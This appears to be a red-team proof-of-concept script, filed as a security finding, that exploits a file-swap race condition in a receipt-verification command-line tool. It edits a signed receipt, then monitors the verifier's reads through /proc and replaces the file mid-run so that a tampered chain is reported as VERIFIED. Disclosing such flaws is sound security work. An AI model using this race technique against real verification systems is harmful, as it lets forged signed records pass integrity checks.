#!/usr/bin/env python3
"""Red team 5, finding 01: a receipt file that changes between the CLI's passes.

`receipt verify` reads each receipt file three times (shape, items, chain), reopening it
by name each time. Pass 2 (items) sees version A of f2.jsonl, pass 3 (chain) sees version
B of the same length:
  A: the chain's last receipt with batchSize edited after signing (receipt.hash and
     receipt.signature fail when A is verified alone);
  B: the same number of bytes of spaces (input.empty / no receipt; alone it is not
     verified either, and with f1 its tail is unsealed... it is simply absent).
The mix is "VERIFIED": pass 2 checked A's fields, pass 3 found no receipt to check.

usage: race.py RECEIPT_BIN WORKDIR   (WORKDIR holds jwks.json and receipts.jsonl from
`receipt demo --out WORKDIR --receipts 60000`)
"""
import os, re, subprocess, sys, time

binary, work = sys.argv[1], sys.argv[2]
lines = open(os.path.join(work, "receipts.jsonl"), "rb").read().splitlines(keepends=True)
f1, f2 = os.path.join(work, "f1.jsonl"), os.path.join(work, "f2.jsonl")
open(f1, "wb").write(b"".join(lines[:-1]))
last = lines[-1]
m = re.search(rb'"batchSize":(\d)', last)
a = last[: m.start(1)] + (b"7" if m.group(1) != b"7" else b"8") + last[m.end(1):]
b = b" " * (len(a) - 1) + b"\n"
assert len(a) == len(b) == len(last)
open(f2 + ".A", "wb").write(a)
open(f2 + ".B", "wb").write(b)
key = os.path.join(work, "jwks.json")

def run(*files):
    p = subprocess.run([binary, "verify", "-k", key, *files], capture_output=True)
    return p.returncode, p.stdout.decode().splitlines()[0] if p.stdout else p.stderr.decode()

os.replace(f2 + ".A", f2); print("A alone (f1 + A):", run(f1, f2))
open(f2 + ".A", "wb").write(a)
os.replace(f2 + ".B", f2); print("B alone (f1 + B):", run(f1, f2))
open(f2 + ".B", "wb").write(b)

os.replace(f2 + ".A", f2)
size1, size2 = os.path.getsize(f1), os.path.getsize(f2)
p = subprocess.Popen([binary, "verify", "-k", key, f1, f2], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
# Passes: shape f1, items f1, shape f2, items f2, chain f1 (slow: signatures), chain f2.
# + slack for the loader, the key file and /sys reads (all tiny next to f1)
target = 2 * size1 + 2 * size2 + os.path.getsize(key) + (1 << 20)
swapped = False
while p.poll() is None:
    try:
        io = open(f"/proc/{p.pid}/io").read()
    except OSError:
        break
    rchar = int(re.search(r"rchar: (\d+)", io).group(1))
    if rchar >= target and not swapped:
        os.replace(f2 + ".B", f2)  # same length, other bytes
        swapped = True
    time.sleep(0.0005)
out, err = p.communicate()
print("swapped during the run:", swapped)
print("A during passes 1-2, B during pass 3: rc", p.returncode, (out.decode().splitlines() or [err.decode()])[0])
